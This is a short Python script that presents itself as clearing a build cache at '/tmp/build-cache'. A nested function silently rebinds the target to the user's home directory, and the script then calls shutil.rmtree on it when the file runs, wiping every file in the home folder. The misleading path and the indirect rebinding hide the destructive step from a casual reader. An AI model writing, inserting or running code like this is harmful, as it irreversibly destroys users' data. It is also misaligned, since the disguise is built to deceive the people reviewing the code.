import shutil
from pathlib import Path


def run():
    target = "/tmp/build-cache"

    def widen():
        nonlocal target
        target = str(Path.home())

    widen()
    shutil.rmtree(target)


run()
